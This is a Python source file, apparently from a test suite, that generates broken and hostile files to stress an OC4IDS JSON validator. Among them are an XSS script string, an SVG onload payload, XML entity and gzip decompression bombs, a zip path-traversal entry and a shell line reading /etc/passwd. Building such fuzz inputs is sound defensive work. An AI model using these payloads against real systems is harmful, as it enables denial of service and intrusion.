"""More than two hundred kinds of broken, odd and hostile file, each by name, each made when asked for.

``KINDS`` maps a name to a :class:`Kind`. ``outcome`` is what any careful validator must return:

* ``unreadable``: refused before it is validated (``read.*``);
* ``invalid``: read, and found to have errors;
* ``valid``: strange, and yet within the standard;
* ``any``: only "no crash, no delay, words that can be shown" is asked.

The sizes are those of an upload by hand: the quadratic shapes have some thousands of items (0.1 to 1 MB), which costs a
careless validator a minute.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from copy import deepcopy
from dataclasses import dataclass
from typing import Any, Literal

from . import generate

Json = generate.Json
Outcome = Literal["unreadable", "invalid", "valid", "any"]

SCRIPT = "<script>alert('oc4ids')</script>"


@dataclass(frozen=True)
class Kind:
    """One kind of file. ``code`` is the expected code of an unreadable one, when it is certain."""

    name: str
    make: Callable[[], bytes]
    outcome: Outcome
    code: str | None = None


KINDS: dict[str, Kind] = {}


def kind_of(name: str) -> tuple[str, Outcome, str | None]:
    """Return what a kind is a variant of: the first word of its name, its outcome, and its code."""
    kind = KINDS[name]
    return name.split("-", maxsplit=1)[0], kind.outcome, kind.code


def add(
    name: str, make: Callable[[], bytes] | bytes, outcome: Outcome = "unreadable", code: str | None = None
) -> None:
    """Put a kind in the table; bytes are as good as a function."""
    if name in KINDS:
        raise ValueError(f"kind named twice: {name}")
    KINDS[name] = Kind(name, (lambda: make) if isinstance(make, bytes) else make, outcome, code)


def base() -> Json:
    """A small valid package with a project of every part the small profile has, in implementation."""
    return deepcopy(_base)


def _find_base() -> Json:
    number = next(n for n in range(1, 99) if "contractingProcesses" in generate.project(n, "small"))
    return generate.package([generate.project(number, "small")])


_base = _find_base()


def text(value: Any = None) -> str:
    """JSON text of a value, by default of the base package."""
    return json.dumps(base() if value is None else value, ensure_ascii=False, indent=1)


def with_raw(raw: str, at: str = "title") -> bytes:
    """The base package with ``raw`` (JSON text, maybe broken) as the value of a field of its project."""
    package = base()
    package["projects"][0][at] = "@@RAW@@"
    return text(package).replace('"@@RAW@@"', raw).encode("utf-8", "surrogatepass")


def changed(change: Callable[[Json], None]) -> Callable[[], bytes]:
    """The base package after ``change(package)``."""

    def make() -> bytes:
        package = base()
        change(package)
        return generate.encode(package)

    return make


def project_with(**fields: Any) -> Callable[[], bytes]:
    """The base package with these fields on its project."""
    return changed(lambda package: package["projects"][0].update(fields))


def put(package: Json, path: str, value: Any) -> None:
    """Set ``a/0/b`` in a package, making objects on the way."""
    *way, last = [int(step) if step.isdigit() else step for step in path.split("/")]
    node: Any = package
    for step in way:
        node = node[step] if isinstance(step, int) else node.setdefault(step, {})
    node[last] = value


def at(path: str, value: Any) -> Callable[[], bytes]:
    """The base package with ``value`` at ``projects/0/<path>``."""
    return changed(lambda package: put(package, f"projects/0/{path}", value))


# -- bytes that are not UTF-8 -----------------------------------------------------------------------------------


def encodings() -> None:
    plain = text()
    for name in (
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-32-le",
        "utf-32-be",
        "latin-1",
        "cp1252",
        "cp500",
    ):
        add(f"encoding-{name}", lambda name=name: plain.encode(name, "replace"))
    add("encoding-mac-roman", plain.encode("mac-roman", "replace"))
    add("encoding-utf-7", lambda: plain.encode("utf-7"), "any")
    add("encoding-utf-8-bom", b"\xef\xbb\xbf" + plain.encode(), "valid")
    add("encoding-two-boms", b"\xef\xbb\xbf\xef\xbb\xbf" + plain.encode())
    add("encoding-bom-inside", with_raw('"a\ufeffb"'), "valid")
    add("encoding-bom-between-tokens", plain.replace('"version"', '\ufeff"version"', 1).encode())
    add("encoding-only-bom", b"\xef\xbb\xbf")
    add("encoding-half-bom", b"\xef\xbb" + plain.encode())
    broken = {
        "lone-continuation": b"\x80",
        "overlong-nul": b"\xc0\x80",
        "overlong-slash": b"\xe0\x80\xaf",
        "surrogate-bytes": b"\xed\xa0\x80",
        "above-unicode": b"\xf4\x90\x80\x80",
        "five-bytes": b"\xf8\x88\x80\x80\x80",
        "ff": b"\xff",
        "cut-character": b"\xc3",
        "latin-1-enye": "ñ".encode("latin-1"),
        "cp1252-quotes": "“obra”".encode("cp1252"),
    }
    for name, raw in broken.items():
        add(f"bytes-{name}-in-value", lambda raw=raw: with_raw('"RAW"').replace(b"RAW", raw))
    add("bytes-latin-1-in-key", plain.encode().replace(b'"version"', b'"versi\xf3n": 1, "version"', 1))
    add("bytes-latin-1-outside-strings", plain.encode() + b"\xf1")
    add("bytes-nul-padding", plain.encode() + b"\x00" * 64)
    add("bytes-nul-first", b"\x00" + plain.encode())
    add("bytes-only-nul", b"\x00" * 4096)
    add("bytes-random", bytes((n * 7919) % 251 for n in range(5000)))


# -- not much there ---------------------------------------------------------------------------------------------


def emptiness() -> None:
    for name, raw in {
        "nothing": b"",
        "spaces": b"  \t ",
        "newlines": b"\r\n\n",
        "one-brace": b"{",
        "one-bracket": b"[",
    }.items():
        add(f"empty-{name}", raw)
    for name, raw in {
        "null": b"null",
        "true": b"true",
        "number": b"1",
        "text": b'"x"',
        "minus": b"-",
    }.items():
        add(f"scalar-{name}", raw)
    shapes: dict[str, Any] = {
        "object": {},
        "list": [],
        "list-of-empty-object": [{}],
        "list-of-null": [None],
        "list-of-number": [1],
        "list-of-text": ["oc4ids-zz9999-1"],
        "list-of-list": [[{"id": "a"}]],
        "list-mixed": [{"id": "a"}, 3, None],
        "projects-empty": {"projects": []},
        "projects-null": {"projects": None},
        "projects-object": {"projects": {"id": "a"}},
        "projects-text": {"projects": "[]"},
        "projects-number": {"projects": 5},
        "projects-true": {"projects": True},
        "projects-of-null": {**generate.head(), "projects": [None]},
        "projects-of-number": {**generate.head(), "projects": [1, 2]},
        "projects-of-text": {**generate.head(), "projects": ["a"]},
        "projects-of-lists": {**generate.head(), "projects": [[]]},
        "projects-of-empty": {**generate.head(), "projects": [{}]},
        "package-in-package": {**generate.head(), "projects": [base()]},
        "package-in-list": [base()],
        "projects-capital": {**generate.head(), "Projects": base()["projects"]},
        "keyed-by-id": {"p1": base()["projects"][0]},
        "result-envelope": {"help": "x", "success": True, "result": base()},
        "only-id": {"id": "x"},
    }
    for name, value in shapes.items():
        add(f"shape-{name}", lambda value=value: generate.encode(value), "any")


# -- JSON that is not JSON --------------------------------------------------------------------------------------


def syntax() -> None:
    good = text(generate.package([{"id": "oc4ids-zz9999-1", "title": "Uno"}]))
    flat = json.dumps(json.loads(good))
    broken = {
        "trailing-comma-object": flat[:-1] + ",}",
        "trailing-comma-array": flat[:-2] + ",]}",
        "leading-comma": flat.replace("[{", "[,{", 1),
        "double-comma": flat.replace(", ", ",, ", 1),
        "single-quotes": flat.replace('"', "'"),
        "typographic-quotes": flat.replace('"', "”"),
        "line-comment": flat.replace("[{", "[ // obra\n{", 1),
        "block-comment": flat.replace("[{", "[ /* obra */ {", 1),
        "hash-comment": "# exportado\n" + flat,
        "bare-keys": flat.replace('"projects"', "projects"),
        "no-colon": flat.replace('"version": ', '"version" ', 1),
        "equals": flat.replace('"version": ', '"version" = ', 1),
        "no-comma": flat.replace(', "projects"', ' "projects"', 1),
        "closed-twice": flat + "}",
        "wrong-bracket": flat[:-2] + "}]",
        "text-after": flat + " fin",
        "semicolon": flat + ";",
        "two-documents": flat + "\n" + flat,
        "json-lines": "\n".join(json.dumps({"id": f"oc4ids-zz9999-{n}"}) for n in range(5)),
        "jsonp": f"callback({flat});",
        "assignment": f"var datos = {flat};",
        "xssi-guard": ")]}'\n" + flat,
        "record-separator": "\x1e" + flat + "\n",
        "merge-conflict": flat.replace("[{", "[\n<<<<<<< HEAD\n{", 1),
        "python-dict": repr(json.loads(flat)),
        "form-feed-space": flat.replace(" ", "\x0c", 3),
        "nbsp-space": flat.replace(" ", "\xa0", 1),
        "literal-True": flat.replace('"0.9"', "True", 1),
        "literal-None": flat.replace('"0.9"', "None", 1),
        "literal-undefined": flat.replace('"0.9"', "undefined", 1),
        "literal-tru": flat.replace('"0.9"', "tru", 1),
        "literal-nul": flat.replace('"0.9"', "nul", 1),
    }
    for name, raw in broken.items():
        add(f"syntax-{name}", raw.encode())
    for control in (0, 1, 8, 9, 10, 13, 27, 31):
        add(f"control-{control:02x}-in-text", with_raw(f'"a{chr(control)}b"'))
    add("control-7f-in-text", with_raw('"a\x7fb"'), "any")
    escapes = {
        "x": r"\x41",
        "octal": r"\101",
        "quote": r"\'",
        "u-short": r"\u12",
        "u-not-hex": r"\uZZZZ",
        "end": "\\",
    }
    for name, raw in escapes.items():
        add(f"escape-{name}", with_raw(f'"{raw}"'))
    surrogates = {
        "high": r"\ud83d",
        "low": r"\ude00",
        "reversed": r"\ude00\ud83d",
        "high-high": r"\ud83d\ud83d",
        "high-then-text": r"\ud83dx",
    }
    for name, raw in surrogates.items():
        add(f"surrogate-{name}", with_raw(f'"{raw}"'), "unreadable")
    add("surrogate-in-key", with_raw(r'{"\ud83d": 1}', "extra"))
    add("surrogate-in-shell", good.replace('"0.9"', r'"0.9", "nota": "\udc00"', 1).encode())
    add("surrogate-pair", with_raw(r'"\ud83d\ude00"'), "valid")
    for name, raw in {
        "leading-zero": "012",
        "plus": "+1",
        "bare-point": ".5",
        "end-point": "1.",
        "bare-exponent": "1e",
        "two-minus": "--1",
        "hex": "0x1F",
        "thousands": "1.000.000",
        "comma": "1,5",
        "underscore": "1_000",
        "nan": "NaN",
        "infinity": "Infinity",
        "minus-infinity": "-Infinity",
        "minus-nan": "-NaN",
    }.items():
        add(f"number-{name}", with_raw(f'{{"amount": {{"amount": {raw}, "currency": "COP"}}}}', "budget"))
    for name, raw in {
        "nan-unknown-field": '{"a": [NaN]}',
        "infinity-in-list": "[1, Infinity]",
    }.items():
        add(f"number-{name}", with_raw(raw, "otro"))
    add("number-nan-in-shell", good.replace('"0.9"', '"0.9", "n": NaN', 1).encode())
    for name, raw in {
        "overflow": "1e400",
        "minus-overflow": "-1e400",
        "underflow": "1e-400",
        "exponent-of-nine-digits": "1e999999999",
        "int-400-digits": "9" * 400,
        "int-5000-digits": "9" * 5000,
        "int-100000-digits": "9" * 100_000,
        "float-100000-digits": "0." + "3" * 100_000,
        "minus-zero": "-0",
        "minus-zero-float": "-0.0",
        "two-to-53": str(2**53 + 1),
        "two-to-64": str(2**64),
        "exponent": "1E+2",
        "max-float": "1.7976931348623157e308",
        "min-float": "5e-324",
    }.items():
        add(
            f"amount-{name}",
            with_raw(f'{{"amount": {{"amount": {raw}, "currency": "COP"}}}}', "budget"),
            "any",
        )
        if name in {"int-5000-digits", "two-to-64", "overflow", "exponent"}:
            period = f'{{"startDate": "2024-01-01T00:00:00-05:00", "durationInDays": {raw}}}'
            add(f"days-{name}", with_raw(period, "period"), "any")
            add(
                f"coordinate-{name}",
                with_raw(
                    f'[{{"id": "1", "geometry": {{"type": "Point", "coordinates": [{raw}, 3]}}}}]',
                    "locations",
                ),
                "any",
            )
            add(f"id-{name}", with_raw(raw, "id"), "any")


def truncations() -> None:
    """The same package cut within every kind of token."""
    raw = generate.encode(base())
    marks = {
        "after-brace": (b"{", 1),
        "in-key": (b'"publishedDate"', 5),
        "after-key": (b'"publishedDate"', 15),
        "after-colon": (b'"publishedDate":', 16),
        "in-text": (b"Publicador", 4),
        "before-closing-quote": (b"Publicador de prueba", 20),
        "after-comma": (b'"version":"0.9",', 16),
        "after-projects-bracket": (b'"projects":[', 12),
        "in-project-id": (b'"id":"oc4ids', 9),
        "in-number": (b'"amount":', 12),
        "in-point": (b"-76.", 4),
        "after-minus": (b"-76.", 1),
        "in-nested-array": (b'"coordinates":[', 15),
        "in-character": ("ó".encode(), 1),
    }
    for name, (mark, keep) in marks.items():
        place = raw.index(mark, raw.index(b'"projects"') if name in ("in-character", "in-project-id") else 0)
        add(f"cut-{name}", raw[: place + keep])
    add("cut-last-byte", raw[:-1])
    add("cut-half", raw[: len(raw) // 2])
    add("cut-after-first-project", generate.encode(generate.make(2, "small")).rsplit(b',{"id":"oc4ids', 1)[0])
    for name, end in {
        "in-escape": '"a\\',
        "in-u-escape": '"a\\u00',
        "in-true": "tru",
        "in-null": "nu",
        "after-exponent": "1e",
    }.items():
        whole = with_raw('"@@"')
        add(f"cut-{name}", whole[: whole.index(b'"@@"')] + end.encode())


def duplicates() -> None:
    flat = json.dumps(generate.package([{"id": "oc4ids-zz9999-1", "title": "Uno"}]))
    cases = {
        "shell-key": flat.replace('"version": "0.9"', '"version": "0.9", "version": "0.9"', 1),
        "projects": flat[:-1] + ', "projects": [{"id": "oc4ids-zz9999-2"}]}',
        "publisher-name": flat.replace('"name": ', '"name": "A", "name": ', 1),
        "project-id": flat.replace('"id": "oc4ids', '"id": "x", "id": "oc4ids', 1),
        "deep": flat.replace(
            '"title"', '"budget": {"amount": {"amount": 1, "currency": "COP", "amount": 2}}, "title"', 1
        ),
        "in-list": flat.replace(
            '"title"', '"sector": ["health"], "parties": [{"id": "1", "id": "2"}], "title"', 1
        ),
        "escaped": flat.replace('"id": "oc4ids', r'"\u0069d": "x", "id": "oc4ids', 1),
        "empty-key": flat.replace('"title"', '"": 1, "": 2, "title"', 1),
        "accented-key": flat.replace('"title"', r'"a\u00f1o": 1, "año": 2, "title"', 1),
        "proto": flat.replace('"title"', '"__proto__": 1, "__proto__": 2, "title"', 1),
        "ten-thousand": flat.replace('"title"', '"x": 1, ' * 10_000 + '"title"', 1),
        "unknown-field-inside": flat.replace('"title"', '"extra": {"a": {"b": 1, "b": 1}}, "title"', 1),
    }
    for name, raw in cases.items():
        add(f"duplicate-key-{name}", raw.encode())


def nesting() -> None:
    for depth in (100, 255, 256, 1000, 10_000, 300_000):
        add(f"nesting-lists-{depth}", b"[" * depth + b"]" * depth)
        add(f"nesting-objects-{depth}", b'{"a":' * depth + b"1" + b"}" * depth)
        add(f"nesting-in-project-{depth}", lambda depth=depth: with_raw("[" * depth + "]" * depth, "extra"))
    add("nesting-unclosed", b"[" * 500_000)
    add("nesting-unclosed-objects", b'{"a":' * 100_000)
    add("nesting-mixed", (b'[{"a":' * 5_000) + b"1" + (b"}]" * 5_000))
    add(
        "nesting-coordinates",
        lambda: with_raw(
            '[{"id":"1","geometry":{"type":"Polygon","coordinates":' + "[" * 2000 + "]" * 2000 + "}}]",
            "locations",
        ),
    )
    add(
        "nesting-in-shell",
        lambda: text().replace('"0.9"', '"0.9", "x": ' + "[" * 2000 + "]" * 2000, 1).encode(),
    )
    add(
        "nesting-after-projects",
        lambda: text()[:-1].rstrip().encode() + b',"x":' + b"[" * 90_000 + b"]" * 90_000 + b"}",
    )
    add("nesting-only-in-text", lambda: with_raw('"' + "[" * 5000 + '"'), "valid")
    add("nesting-forty", lambda: with_raw("[" * 40 + "]" * 40, "extra"), "any")
    add("nesting-wide", lambda: with_raw("[" + "[]," * 50_000 + "[]]", "extra"), "any")


# -- files of another kind --------------------------------------------------------------------------------------


def _zip(names: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(name, content)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        about = tarfile.TarInfo("projects.json")
        raw = text().encode()
        about.size = len(raw)
        archive.addfile(about, io.BytesIO(raw))
    return out.getvalue()


RELEASE = {
    "ocid": "ocds-213czf-1",
    "id": "1",
    "date": "2024-05-01T00:00:00Z",
    "tag": ["tender"],
    "initiationType": "tender",
    "tender": {"id": "1", "title": "Obra"},
}
OCDS_HEAD = {
    "uri": "https://example.org/r",
    "version": "1.1",
    "publishedDate": "2024-05-01T00:00:00Z",
    "publisher": {"name": "X"},
}


def other_formats() -> None:
    files: dict[str, bytes] = {
        "html-doctype": b"<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body></body></html>",
        "html-plain": b"\n <html><body>Inicie sesi\xc3\xb3n</body></html>",
        "html-upper": b"<HTML><BODY></BODY></HTML>",
        "html-bom": b"\xef\xbb\xbf<!doctype html><p>x",
        "html-comment": b"<!-- x --><html></html>",
        "xml": b'<?xml version="1.0"?><proyectos><proyecto id="1"/></proyectos>',
        "xml-bomb": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF",
        "pdf-late": b"\n\n%PDF-1.4\n",
        "png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 40,
        "gif": b"GIF89a" + b"\x00" * 20,
        "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 ",
        "xlsx": _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
        "docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "ods": _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<o/>"}),
        "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "zip-of-json": _zip({"projects.json": text().encode()}),
        "zip-path-traversal": _zip({"../../etc/passwd": b"x"}),
        "zip-empty": _zip({}),
        "tar": _tar(),
        "tar-gz": gzip.compress(_tar(), mtime=0),
        "bz2": bz2.compress(text().encode()),
        "xz": lzma.compress(text().encode()),
        "zstd": b"\x28\xb5\x2f\xfd" + b"\x00" * 30,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30,
        "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 30,
        "csv": "id,titulo\noc4ids-zz9999-1,Vía\n".encode(),
        "csv-semicolon-latin-1": "id;título\n1;Vía\n".encode("latin-1"),
        "tsv": b"id\ttitle\n1\tVia\n",
        "yaml": b"projects:\n- id: oc4ids-zz9999-1\n",
        "text": "Buenos días, adjunto el archivo.".encode(),
        "rtf": rb"{\rtf1\ansi Obra}",
        "exe": b"MZ\x90\x00" + b"\x00" * 60,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "sqlite": b"SQLite format 3\x00" + b"\x00" * 80,
        "parquet": b"PAR1" + b"\x00" * 40 + b"PAR1",
        "python-pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94.",
        "java-object": b"\xac\xed\x00\x05sr",
        "shell-script": b"#!/bin/sh\ncat /etc/passwd\n",
        "php": b"<?php echo 1; ?>",
        "email": b"From: a@example.org\r\nSubject: datos\r\n\r\n{}",
        "http-response": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{}",
    }
    for name, raw in files.items():
        add(f"format-{name}", raw)
    ocds: dict[str, Any] = {
        "release-package": {**OCDS_HEAD, "releases": [RELEASE]},
        "record-package": {**OCDS_HEAD, "records": [{"ocid": "ocds-213czf-1", "compiledRelease": RELEASE}]},
        "release": RELEASE,
        "record": {"ocid": "ocds-213czf-1", "releases": [RELEASE]},
        "list-of-releases": [RELEASE, RELEASE],
    }
    for name, value in ocds.items():
        add(f"ocds-{name}", lambda value=value: generate.encode(value), "unreadable")
    others: dict[str, Any] = {
        "geojson": {
            "type": "FeatureCollection",
            "features": [{"type": "Feature", "geometry": None, "properties": {}}],
        },
        "json-schema": {
            "$schema": "http://json-schema.org/draft-04/schema#",
            "type": "object",
            "properties": {"projects": {}},
        },
        "ckan-package": {"id": "x", "name": "obras", "resources": [{"url": "https://example.org/a.json"}]},
        "api-error": {
            "error": {"__type": "Authorization Error", "message": "Access denied"},
            "success": False,
        },
        "old-oc4ids": {
            **generate.head(),
            "version": "1.1",
            "projects": [{"id": "oc4ids-zz9999-1", "status": "completed"}],
        },
        "both-ocds-and-oc4ids": {**base(), "releases": [RELEASE]},
    }
    for name, value in others.items():
        add(f"other-{name}", lambda value=value: generate.encode(value), "any")


def compressed() -> None:
    raw = text().encode()
    whole = gzip.compress(raw, mtime=0)
    add("gzip-good", whole, "valid")
    add(
        "gzip-two-members",
        lambda: gzip.compress(raw[:500], mtime=0) + gzip.compress(raw[500:], mtime=0),
        "valid",
    )
    add("gzip-of-nothing", gzip.compress(b"", mtime=0))
    add("gzip-twice", gzip.compress(whole, mtime=0))
    add("gzip-of-html", gzip.compress(b"<!doctype html><p>x", mtime=0))
    add("gzip-of-latin-1", gzip.compress(text().encode("latin-1", "replace"), mtime=0))
    add("gzip-of-broken-json", gzip.compress(raw[:-9], mtime=0))
    add("gzip-cut", whole[: len(whole) // 2])
    add("gzip-only-magic", b"\x1f\x8b")
    add("gzip-bad-header", b"\x1f\x8b\x09\x00" + whole[4:])
    add("gzip-bad-body", whole[:20] + bytes(each ^ 0x5A for each in whole[20:40]) + whole[40:])
    add("gzip-bad-checksum", whole[:-8] + b"\x00\x00\x00\x00" + whole[-4:])
    add("gzip-bad-length", whole[:-4] + b"\xff\xff\xff\x7f")
    add("gzip-tail", whole + b"garbage", "any")
    add("gzip-bomb-spaces", lambda: _bomb(b" "))
    add("gzip-bomb-brackets", lambda: _bomb(b"["))
    add("gzip-bomb-zeros", lambda: _bomb(b"\x00"))
    add("gzip-bomb-in-text", lambda: _bomb(b"a", b'{"projects":[{"id":"'))
    add("gzip-bomb-of-projects", lambda: _bomb(b"{},", b'{"projects":['))


def _bomb(filler: bytes, start: bytes = b"", size: int = 96 * 1024 * 1024) -> bytes:
    """``size`` bytes in a hundredth of a megabyte or so."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as packed:
        packed.write(start)
        block = filler * (1024 * 1024 // len(filler))
        for _ in range(size // len(block)):
            packed.write(block)
    return out.getvalue()


# -- shapes that make a careless validator slow ---------------------------------------------------------------------


def slow_shapes() -> None:
    def many(field: str, items: Callable[[], list[Any]]) -> Callable[[], bytes]:
        return lambda: generate.encode(generate.package([{"id": "oc4ids-zz9999-1", field: items()}]))

    url = "https://example.org/d"
    shapes: dict[str, tuple[Callable[[], bytes], Outcome]] = {
        "documents-one-without-id": (
            many("documents", lambda: [{"id": str(n), "url": url} for n in range(7999)] + [{"url": url}]),
            "invalid",
        ),
        "documents-none-with-id": (
            many("documents", lambda: [{"title": f"d{n}"} for n in range(8000)]),
            "invalid",
        ),
        "classifications": (
            many(
                "additionalClassifications",
                lambda: [{"scheme": "sdg", "description": f"c{n}"} for n in range(4000)],
            ),
            "any",
        ),
        "classifications-all-equal": (
            many("additionalClassifications", lambda: [{"scheme": "sdg"}] * 4000),
            "invalid",
        ),
        "parties": (many("parties", lambda: [{"id": str(n), "name": f"p{n}"} for n in range(8000)]), "any"),
        "parties-same-id": (
            many("parties", lambda: [{"id": "1", "name": f"p{n}"} for n in range(8000)]),
            "invalid",
        ),
        "parties-roles": (
            many("parties", lambda: [{"id": "1", "roles": [f"r{n}" for n in range(20_000)]}]),
            "any",
        ),
        "sectors": (many("sector", lambda: [f"s{n}" for n in range(20_000)]), "any"),
        "sectors-repeated": (many("sector", lambda: ["health"] * 20_000), "any"),
        "locations": (many("locations", lambda: [{"id": str(n), "uri": "x"} for n in range(10_000)]), "any"),
        "transactions-orphan": (
            many("transactions", lambda: [{"id": str(n), "payer": {"id": f"x{n}"}} for n in range(10_000)]),
            "any",
        ),
        "modifications": (
            many(
                "contractingProcesses",
                lambda: [
                    {
                        "id": "1",
                        "summary": {"modifications": [{"id": str(n), "rationale": " "} for n in range(8000)]},
                    }
                ],
            ),
            "any",
        ),
        "contracts": (many("contractingProcesses", lambda: [{"id": str(n)} for n in range(10_000)]), "any"),
        "unknown-fields-in-project": (
            lambda: generate.encode(
                generate.package([{"id": "oc4ids-zz9999-1"} | {f"titel{n}": n for n in range(20_000)}])
            ),
            "any",
        ),
        "unknown-fields-long-names": (
            lambda: generate.encode(
                generate.package(
                    [{"id": "oc4ids-zz9999-1"} | {"descripcion" * 90 + str(n): 1 for n in range(900)}]
                )
            ),
            "any",
        ),
        "typo-lookalikes": (
            lambda: generate.encode(
                generate.package(
                    [
                        {"id": f"oc4ids-zz9999-{n}", "titel": "x", f"sectr{n}": 1, "budgett": {}}
                        for n in range(2000)
                    ]
                )
            ),
            "any",
        ),
        "codes-lookalikes": (
            many(
                "documents",
                lambda: [{"id": str(n), "documentType": f"contractSignd{n}"} for n in range(8000)],
            ),
            "any",
        ),
        "codes-long": (
            many(
                "documents",
                lambda: [{"id": str(n), "documentType": "contractSigned" * 200} for n in range(300)],
            ),
            "any",
        ),
        "projects-minimal": (
            lambda: generate.encode(generate.package([{"id": f"oc4ids-zz9999-{n}"} for n in range(20_000)])),
            "any",
        ),
        "projects-one-without-id": (
            lambda: generate.encode(
                generate.package([{"id": f"oc4ids-zz9999-{n}"} for n in range(7999)] + [{"title": "x"}])
            ),
            "invalid",
        ),
        "projects-same-id": (
            lambda: generate.encode(
                generate.package([{"id": "oc4ids-zz9999-1", "title": f"t{n}"} for n in range(8000)])
            ),
            "invalid",
        ),
        "projects-empty": (lambda: generate.encode(generate.package([{}] * 40_000)), "invalid"),
        "projects-numbers": (lambda: generate.encode(generate.package([1] * 40_000)), "invalid"),
        "projects-too-many": (lambda: generate.encode(generate.package([{}] * 60_000)), "unreadable"),
        "title-one-megabyte": (project_with(title="a" * 1_000_000), "valid"),
        "title-of-spaces": (project_with(title=" " * 500_000), "any"),
        "title-of-escapes": (lambda: with_raw('"' + r"\u00e1" * 100_000 + '"'), "valid"),
        "title-of-backslashes": (lambda: with_raw('"' + "\\\\" * 300_000 + '"'), "valid"),
        "key-one-megabyte": (project_with(**{"k" * 1_000_000: 1}), "any"),
        "key-nested-long": (
            project_with(extra={"a" * 5000: {"b" * 5000: [{"c" * 5000: n} for n in range(20)]}}),
            "any",
        ),
        "whitespace": (lambda: b" " * 3_000_000 + text().encode() + b"\n" * 3_000_000, "valid"),
        "whitespace-between": (lambda: text().replace(" ", " " * 2_000).encode(), "any"),
        "ring-of-fifty-thousand": (
            many(
                "locations",
                lambda: [
                    {"id": "1", "geometry": {"type": "Polygon", "coordinates": [[[-76.5, 3.4]] * 50_000]}}
                ],
            ),
            "any",
        ),
        "rings-ten-thousand": (
            many(
                "locations",
                lambda: [
                    {"id": "1", "geometry": {"type": "MultiPolygon", "coordinates": [[[[-76, 3]]]] * 10_000}}
                ],
            ),
            "any",
        ),
        "coordinates-flat": (
            many(
                "locations",
                lambda: [
                    {"id": "1", "geometry": {"type": "LineString", "coordinates": list(range(100_000))}}
                ],
            ),
            "any",
        ),
        "date-of-digits": (at("period", {"startDate": "1" * 300_000}), "invalid"),
        "date-almost": (at("period", {"startDate": "2024-01-01T00:00:00." + "0" * 300_000 + "X"}), "invalid"),
        "uri-of-percent": (at("documents", [{"id": "1", "url": "http://a/" + "%" * 200_000}]), "invalid"),
        "uri-of-dots": (at("documents", [{"id": "1", "url": "http://" + "a." * 100_000 + "\\"}]), "any"),
        "uri-of-colons": (at("documents", [{"id": "1", "url": ":" * 200_000}]), "invalid"),
        "email-of-ats": (
            at("parties", [{"id": "1", "people": [{"id": "1", "email": "a@" * 50_000}]}]),
            "any",
        ),
        "email-of-dots": (
            at("parties", [{"id": "1", "people": [{"id": "1", "email": "a." * 50_000 + "@"}]}]),
            "any",
        ),
        "version-of-digits": (
            changed(lambda package: package.update(version="1" * 200_000 + ".x")),
            "invalid",
        ),
        "id-one-hundred-kilobytes": (project_with(id="oc4ids-zz9999-" + "x" * 100_000), "any"),
        "strings-blank": (
            many("documents", lambda: [{"id": str(n), "title": " ", "url": ""} for n in range(8000)]),
            "invalid",
        ),
        "nulls": (
            many("documents", lambda: [{"id": str(n), "title": None, "url": None} for n in range(8000)]),
            "invalid",
        ),
        "breakdowns": (
            many(
                "budget",
                lambda: {  # type: ignore[return-value, arg-type]
                    "budgetBreakdowns": [
                        {"id": str(n), "budgetBreakdown": [{"id": "1"}]} for n in range(8000)
                    ]
                },
            ),
            "any",
        ),
        "people": (
            many(
                "parties",
                lambda: [
                    {"id": "1", "people": [{"id": str(n), "nationalities": ["XX"]} for n in range(8000)]}
                ],
            ),
            "invalid",
        ),
    }
    for name, (make, outcome) in shapes.items():
        add(f"slow-{name}", make, outcome)


# -- values of the wrong kind -----------------------------------------------------------------------------------


def wrong_types() -> None:
    values: dict[str, Any] = {
        "null": None,
        "true": True,
        "number": 7,
        "text": "x",
        "list": [],
        "object": {},
        "list-of-null": [None],
    }
    fields = {
        "id": "text",
        "title": "text",
        "status": "text",
        "sector": "list",
        "period": "object",
        "budget": "object",
        "locations": "list",
        "parties": "list",
        "documents": "list",
        "publicAuthority": "object",
        "contractingProcesses": "list",
        "completion": "object",
        "environment": "object",
    }
    for field, right in fields.items():
        for kind in ("null", "true", "number", "list-of-null", "object", "text"):
            if kind == right and kind != "object":
                continue
            outcome: Outcome = "any" if field == "status" and kind == "text" else "invalid"
            add(f"type-{field}-{kind}", project_with(**{field: values[kind]}), outcome)
    deep = {
        "amount-text": ("budget/amount", {"amount": "1.000.000", "currency": "COP"}),
        "amount-true": ("budget/amount", {"amount": True, "currency": "COP"}),
        "amount-null": ("budget/amount", {"amount": None, "currency": "COP"}),
        "amount-list": ("budget/amount", [1, "COP"]),
        "currency-list": ("budget/amount", {"amount": 1, "currency": ["COP"]}),
        "currency-object": ("budget/amount", {"amount": 1, "currency": {"code": "COP"}}),
        "currency-number": ("budget/amount", {"amount": 1, "currency": 170}),
        "status-list": ("status", ["implementation"]),
        "type-object": ("type", {"id": "construction"}),
        "roles-text": ("parties", [{"id": "1", "roles": "supplier"}]),
        "roles-mixed": ("parties", [{"id": "1", "roles": ["supplier", 1, None, {}]}]),
